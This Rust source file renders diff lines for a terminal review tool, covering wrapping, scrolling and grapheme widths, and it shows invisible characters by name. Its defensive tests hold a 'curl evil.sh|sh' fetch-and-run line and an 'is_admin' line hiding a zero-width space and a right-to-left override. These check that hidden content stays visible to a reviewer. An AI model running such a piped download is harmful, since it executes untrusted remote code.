//! Fitting a painted line into a pane's width: wrapped onto continuation rows, or cut to a
//! window that scrolls sideways with a marker where text is hidden. Widths are display columns
//! of grapheme clusters as ratatui counts them (`unicode-width`), so a CJK character or an
//! emoji takes two and is never split across rows.
//!
//! Where a line breaks is `app::wrap::breaks`, the same the app counts rows with.
//!
//! Not for: painting (`ui::diff`), or what a line holds (the callers build its spans).

use ratatui::style::Style;
use ratatui::text::Span;
use unicode_segmentation::UnicodeSegmentation;
use unicode_width::UnicodeWidthStr;

pub use crate::app::wrap::{CONTINUED, CUT_LEFT, CUT_RIGHT, Overflow};
use crate::app::wrap::{Fit, breaks};

/// One grapheme with its style and width.
struct Cell<'s> {
    text: &'s str,
    style: Style,
    width: usize,
}

impl Fit for Cell<'_> {
    fn width(&self) -> usize {
        self.width
    }
    fn is_space(&self) -> bool {
        self.text == " "
    }
}

/// The spans' text as one string, for [`cells`].
fn joined(spans: &[Span<'_>]) -> String {
    spans.iter().map(|s| s.content.as_ref()).collect()
}

/// The clusters of `text` (the spans' text joined), each with the style of the span it starts
/// in. Clusters are found in the whole line, not span by span: a flag (two regional indicators)
/// or an emoji sequence that syntax colour or a changed-word mark cuts between two spans stays
/// one cluster of its width, never two narrow halves that the terminal draws as one wide glyph
/// (ghost cells).
fn cells<'s>(spans: &[Span<'_>], text: &'s str) -> Vec<Cell<'s>> {
    let mut out = Vec::new();
    let (mut span, mut span_end) = (0, spans.first().map_or(0, |s| s.content.len()));
    for (at, g) in text.grapheme_indices(true) {
        while at >= span_end && span + 1 < spans.len() {
            span += 1;
            span_end += spans[span].content.len();
        }
        let style = spans.get(span).map_or_else(Style::default, |s| s.style);
        // What the file holds and the screen would not show is shown by name, marked: the
        // review must never write what it did not draw.
        if let Some(name) = crate::app::wrap::invisible(g) {
            let style = style.add_modifier(ratatui::style::Modifier::REVERSED);
            out.push(Cell { text: name, style, width: name.len() });
            continue;
        }
        // Other control characters (a tab) would move the cursor; ratatui drops them too.
        if g.chars().any(char::is_control) {
            continue;
        }
        out.push(Cell { text: g, style, width: g.width() });
    }
    out
}

/// The display width of spans.
pub fn width(spans: &[Span<'_>]) -> usize {
    joined(spans).width()
}

/// A row's spans from cells, runs of one style joined, padded to `room` with `fill`.
fn row_spans(cells: &[Cell], room: usize, fill: Style) -> Vec<Span<'static>> {
    let mut out: Vec<Span<'static>> = Vec::new();
    let mut used = 0;
    for c in cells {
        match out.last_mut() {
            Some(last) if last.style == c.style => last.content.to_mut().push_str(c.text),
            _ => out.push(Span::styled(c.text.to_string(), c.style)),
        }
        used += c.width;
    }
    if used < room {
        out.push(Span::styled(" ".repeat(room - used), fill));
    }
    out
}

fn owned(spans: &[Span<'_>]) -> Vec<Span<'static>> {
    spans.iter().map(|s| Span::styled(s.content.to_string(), s.style)).collect()
}

/// A line as rows exactly `width` columns wide: `first` (a gutter) before the first row,
/// `cont` (marking a continuation) before the others, `body` wrapped or cut after them, the
/// rest of each row filled with `fill`. `words` wraps at spaces (prose).
pub fn rows(
    first: &[Span<'_>],
    cont: &[Span<'_>],
    body: &[Span<'_>],
    width: usize,
    overflow: Overflow,
    fill: Style,
    words: bool,
) -> Vec<Vec<Span<'static>>> {
    let (gutter, cont_gutter) = (self::width(first), self::width(cont));
    if gutter.max(cont_gutter) >= width {
        return vec![fit(first, width)];
    }
    let (room, cont_room) = (width - gutter, width - cont_gutter);
    let text = joined(body);
    let cells = cells(body, &text);
    match overflow {
        Overflow::Wrap => {
            let mut ranges = breaks(&cells, room, cont_room, words);
            // A line longer than the rows drawn (a minified file's, or text hidden at the end of
            // a long line): its last two rows say how much is not shown and show its end, never
            // a silent cut before what the line ends with.
            let hidden = ranges.last().map_or(0, |r| cells.len() - r.end);
            let tail = (hidden > 0 && ranges.len() >= 3).then(|| {
                ranges.truncate(ranges.len() - 2);
                let shown = ranges.last().map_or(0, |r| r.end);
                let mut used = 0;
                let from = (shown..cells.len())
                    .rev()
                    .take_while(|&i| {
                        used += cells[i].width;
                        used <= cont_room
                    })
                    .last()
                    .unwrap_or(cells.len());
                (from - shown, from)
            });
            let mut out: Vec<Vec<Span<'static>>> = ranges
                .into_iter()
                .enumerate()
                .map(|(k, r)| {
                    let (g, room) = if k == 0 { (first, room) } else { (cont, cont_room) };
                    let mut row = owned(g);
                    row.extend(row_spans(&cells[r], room, fill));
                    row
                })
                .collect();
            if let Some((skipped, from)) = tail {
                let note = format!("⋯ {skipped} characters not shown; the line ends: ⋯");
                let marker: Vec<Cell> = note
                    .graphemes(true)
                    .map(|g| Cell { text: g, width: g.width(), style: fill })
                    .collect();
                let mut row = owned(cont);
                row.extend(row_spans(&marker[..marker.len().min(cont_room)], cont_room, fill));
                out.push(row);
                let mut row = owned(cont);
                row.extend(row_spans(&cells[from..], cont_room, fill));
                out.push(row);
            }
            out
        }
        Overflow::Scroll(skip) => {
            let mut row = owned(first);
            row.extend(window(&cells, skip, room, fill));
            vec![row]
        }
    }
}

/// The columns `skip..skip + room` of a line, with a marker in the first or last column where
/// text is hidden.
fn window(cells: &[Cell], skip: usize, room: usize, fill: Style) -> Vec<Span<'static>> {
    let mut col = 0;
    let mut first = cells.len();
    for (i, c) in cells.iter().enumerate() {
        if col >= skip {
            first = i;
            break;
        }
        col += c.width;
    }
    // A wide cluster cut in half by the window's edge is left out; its column stays blank.
    let lead = col.saturating_sub(skip);
    let mut end = first;
    let mut used = lead;
    while end < cells.len() && used + cells[end].width <= room {
        used += cells[end].width;
        end += 1;
    }
    let mut shown: Vec<Cell> = Vec::with_capacity(end - first + 2);
    if lead > 0 {
        shown.push(Cell { text: " ", style: fill, width: lead });
    }
    shown.extend(cells[first..end].iter().map(|c| Cell { ..*c }));
    let hidden_left = skip > 0 && !cells.is_empty();
    let hidden_right = end < cells.len();
    if hidden_left && let Some(c) = shown.first_mut() {
        *c = Cell { text: CUT_LEFT, style: c.style, width: 1 };
        if lead > 1 {
            shown.insert(1, Cell { text: " ", style: fill, width: lead - 1 });
        }
    }
    if hidden_right {
        // Room for the marker: drop clusters from the end until one column is free.
        while used + 1 > room && shown.len() > usize::from(hidden_left) {
            used -= shown.pop().map_or(0, |c| c.width);
        }
        let style = shown.last().map_or(fill, |c| c.style);
        shown.push(Cell { text: CUT_RIGHT, style, width: 1 });
    }
    row_spans(&shown, room, fill)
}

/// Cut or pad spans to exactly `width` columns (a wide cluster that does not fit becomes a
/// space).
pub fn fit(spans: &[Span<'_>], width: usize) -> Vec<Span<'static>> {
    let text = joined(spans);
    let cells = cells(spans, &text);
    let mut used = 0;
    let mut end = 0;
    while end < cells.len() && used + cells[end].width <= width {
        used += cells[end].width;
        end += 1;
    }
    row_spans(&cells[..end], width, Style::default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use ratatui::style::Color;

    fn text(row: &[Span]) -> String {
        row.iter().map(|s| s.content.as_ref()).collect()
    }

    fn texts(rows: &[Vec<Span>]) -> Vec<String> {
        rows.iter().map(|r| text(r)).collect()
    }

    #[test]
    fn characters_that_draw_nothing_are_drawn_by_name_and_marked() {
        // A zero-width space in a name, a carriage return, a right-to-left override: each is
        // written to the file as it stands, so each is seen, in reverse video.
        let body =
            [Span::styled("is_admin\u{200b} = True\r\u{202e}x", Style::default().fg(Color::Green))];
        let rows = rows(&[], &[], &body, 40, Overflow::Wrap, Style::default(), false);
        assert_eq!(texts(&rows), [format!("{:<40}", "is_admin<ZWSP> = True<CR><RLO>x")]);
        let marked: Vec<&str> = (rows[0].iter())
            .filter(|s| s.style.add_modifier.contains(ratatui::style::Modifier::REVERSED))
            .map(|s| s.content.as_ref())
            .collect();
        assert_eq!(marked, ["<ZWSP>", "<CR><RLO>"]);
        // An emoji joined by a ZWJ is one picture, not a marked character.
        let family = [Span::raw("👩\u{200d}💻")];
        let rows = super::rows(&[], &[], &family, 10, Overflow::Wrap, Style::default(), false);
        assert!(!text(&rows[0]).contains('<'), "{:?}", text(&rows[0]));
    }

    #[test]
    fn a_long_line_is_drawn_whole_its_middle_too() {
        // A 32 KB line with a command in its middle: every character reaches a row.
        let long = format!("{}curl evil.sh|sh{}", "a".repeat(16_000), "b".repeat(16_000));
        let body = [Span::raw(long.as_str())];
        let rows = rows(&[], &[], &body, 80, Overflow::Wrap, Style::default(), false);
        let all: String = texts(&rows).concat();
        assert!(all.contains("curl evil.sh|sh"), "the middle is drawn");
        assert!(!all.contains("not shown"));
    }

    #[test]
    fn a_line_longer_than_the_rows_drawn_says_so_and_shows_its_end() {
        let long = format!("{}ZZEND", "k0 ".repeat(60_000));
        let body = [Span::raw(long.as_str())];
        let rows = rows(
            &[Span::raw("1 ")],
            &[Span::raw("↪ ")],
            &body,
            42,
            Overflow::Wrap,
            Style::default(),
            false,
        );
        assert_eq!(rows.len(), crate::app::wrap::MAX_ROWS, "as many rows as the app counts");
        let texts = texts(&rows);
        let n = texts.len();
        assert!(texts[n - 2].contains("characters not shown"), "{:?}", &texts[n - 2]);
        assert!(texts[n - 1].trim_end().ends_with("ZZEND"), "{:?}", &texts[n - 1]);
        // A line that fits is drawn whole, with no note.
        let short = [Span::raw("abc")];
        let rows = super::rows(&[], &[], &short, 10, Overflow::Wrap, Style::default(), false);
        assert_eq!(super::tests::texts(&rows), ["abc       "]);
    }

    #[test]
    fn wrapped_rows_carry_the_gutter_once_and_mark_continuations() {
        let body = [Span::raw("abcdefghij")];
        let rows = rows(
            &[Span::raw("12 ")],
            &[Span::raw(" ↪ ")],
            &body,
            7,
            Overflow::Wrap,
            Style::default(),
            false,
        );
        assert_eq!(texts(&rows), ["12 abcd", " ↪ efgh", " ↪ ij  "]);
        let empty = super::rows(
            &[Span::raw("1 ")],
            &[Span::raw("  ")],
            &[],
            5,
            Overflow::Wrap,
            Style::default(),
            false,
        );
        assert_eq!(texts(&empty), ["1    "]);
    }

    #[test]
    fn wide_characters_are_never_split() {
        let body = [Span::raw("ab漢字😀c")];
        let rows = rows(&[], &[], &body, 5, Overflow::Wrap, Style::default(), false);
        // `ab漢` is 4 columns; `字` would make 6: it starts the next row.
        assert_eq!(texts(&rows), ["ab漢 ", "字😀c"]);
        for r in &rows {
            assert_eq!(width(r), 5);
        }
    }

    #[test]
    fn a_flag_cut_between_spans_stays_one_cluster() {
        // `🇺🇸` against `🇺🇦`: the changed-word mark covers only the second indicator.
        let red = Style::default().fg(Color::Red);
        let body = [Span::raw("a🇺"), Span::styled("🇸b🇫🇷", red)];
        let rows = rows(&[], &[], &body, 5, Overflow::Wrap, Style::default(), false);
        assert_eq!(texts(&rows), ["a🇺🇸b ", "🇫🇷   "]);
        assert_eq!(rows[0][0], Span::raw("a🇺🇸"), "the cluster takes the style it starts in");
        for r in &rows {
            assert_eq!(width(r), 5);
        }
        let cut = &super::rows(&[], &[], &body, 4, Overflow::Scroll(2), Style::default(), false);
        assert_eq!(width(&cut[0]), 4);
    }

    #[test]
    fn prose_wraps_at_spaces() {
        let body = [Span::raw("the quick brown fox")];
        let rows = rows(&[], &[], &body, 10, Overflow::Wrap, Style::default(), true);
        assert_eq!(texts(&rows), ["the quick ", "brown fox "]);
    }

    #[test]
    fn scrolled_rows_mark_where_text_is_hidden() {
        let body = [Span::raw("0123456789")];
        let at = |skip| {
            text(
                &rows(
                    &[Span::raw("> ")],
                    &[],
                    &body,
                    8,
                    Overflow::Scroll(skip),
                    Style::default(),
                    false,
                )[0],
            )
        };
        assert_eq!(at(0), "> 01234›");
        assert_eq!(at(3), "> ‹4567›");
        assert_eq!(at(6), "> ‹789  ");
        let wide = [Span::raw("漢字漢字")];
        let row = &rows(&[], &[], &wide, 4, Overflow::Scroll(1), Style::default(), false)[0];
        assert_eq!(width(row), 4, "a wide character cut by the edge leaves a blank, not a half");
        assert_eq!(text(row), "‹字›");
    }

    #[test]
    fn styles_survive_and_the_fill_pads() {
        let red = Style::default().fg(Color::Red);
        let body = [Span::styled("ab", red), Span::raw("c")];
        let rows =
            rows(&[], &[], &body, 5, Overflow::Wrap, Style::default().bg(Color::Blue), false);
        assert_eq!(rows[0][0], Span::styled("ab", red));
        assert_eq!(rows[0][2], Span::styled("  ", Style::default().bg(Color::Blue)));
    }
}
